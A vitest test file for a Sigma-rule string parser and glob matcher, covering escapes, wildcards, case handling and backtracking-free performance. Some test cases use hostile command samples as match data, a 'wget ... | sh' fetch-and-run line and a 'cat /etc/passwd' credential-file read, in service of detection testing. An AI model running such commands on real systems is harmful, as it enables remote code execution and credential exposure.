import { describe, expect, it } from 'vitest';
import { parseSigmaString, plainText, WILDCARD_ANY, WILDCARD_ONE } from './sigma-string.js';
import { compileStringMatcher } from './string-matcher.js';

const matches = (pattern: string, text: string, cased = false) =>
  compileStringMatcher(parseSigmaString(pattern), cased)(text);

describe('parseSigmaString', () => {
  it('reads * and ? as wildcards and collapses **', () => {
    expect(parseSigmaString('a*b?c**').parts).toEqual([
      'a',
      WILDCARD_ANY,
      'b',
      WILDCARD_ONE,
      'c',
      WILDCARD_ANY,
    ]);
  });

  it('follows the specification escapes', () => {
    expect(parseSigmaString('\\*').parts).toEqual(['*']);
    expect(parseSigmaString('\\?').parts).toEqual(['?']);
    // A backslash before another character stays a plain backslash.
    expect(parseSigmaString('C:\\Windows\\').parts).toEqual(['C:\\Windows\\']);
    // `\\*` is a backslash followed by a wildcard; `\\\*` a backslash and a star.
    expect(parseSigmaString('a\\\\*').parts).toEqual(['a\\', WILDCARD_ANY]);
    expect(parseSigmaString('a\\\\\\*').parts).toEqual(['a\\*']);
    // Three or four backslashes are a double backslash.
    expect(parseSigmaString('\\\\\\\\').parts).toEqual(['\\\\']);
    expect(parseSigmaString('\\\\\\').parts).toEqual(['\\\\']);
    expect(plainText(parseSigmaString('x\\*y*'))).toBe('x*y*');
  });
});

describe('compileStringMatcher', () => {
  it('matches whole values exactly, case-insensitively by default', () => {
    expect(matches('Root', 'root')).toBe(true);
    expect(matches('root', 'ROOT')).toBe(true);
    expect(matches('root', 'rooted')).toBe(false);
    expect(matches('root', 'root', true)).toBe(true);
    expect(matches('Root', 'root', true)).toBe(false);
  });

  it('handles prefix, suffix, infix and general globs', () => {
    expect(matches('adm*', 'admin')).toBe(true);
    expect(matches('adm*', 'xadmin')).toBe(false);
    expect(matches('*.php', '/index.PHP')).toBe(true);
    expect(matches('*passwd*', 'cat /etc/passwd now')).toBe(true);
    expect(matches('wget * - http* | sh', 'wget -q - http://x.io/a | sh')).toBe(true);
    expect(matches('wget * - http* | sh', 'wget -q - http://x.io/a | bash')).toBe(false);
    expect(matches('*', '')).toBe(true);
    expect(matches('a*b*c', 'abc')).toBe(true);
    expect(matches('a*b*c', 'ac')).toBe(false);
    // First and last segments must not overlap.
    expect(matches('ab*ba', 'aba')).toBe(false);
  });

  it('treats ? as exactly one character', () => {
    expect(matches('prog?.exe', 'progA.exe')).toBe(true);
    expect(matches('prog?.exe', 'prog.exe')).toBe(false);
    expect(matches('prog?.exe', 'progAB.exe')).toBe(false);
    expect(matches('*x?z*', 'aaxyzbb')).toBe(true);
    expect(matches('*x?z*', 'aaxzbb')).toBe(false);
  });

  it('matches escaped wildcards literally', () => {
    expect(matches('a\\*b', 'a*b')).toBe(true);
    expect(matches('a\\*b', 'axxb')).toBe(false);
    expect(matches('what\\?', 'what?')).toBe(true);
    expect(matches('what\\?', 'whatx')).toBe(false);
  });

  it('matches the empty string only against an empty value', () => {
    expect(matches('', '')).toBe(true);
    expect(matches('', 'x')).toBe(false);
  });

  it('stays fast on adversarial globs (no backtracking)', () => {
    const text = 'a'.repeat(20_000);
    const started = performance.now();
    expect(matches('*a*a*a*a*a*a*a*a*a*a*b', text)).toBe(false);
    expect(matches('*?a?a?a?a?a?a?b*', text)).toBe(false);
    // Polynomial at worst; a backtracking glob would take minutes here.
    expect(performance.now() - started).toBeLessThan(2_000);
  });
});
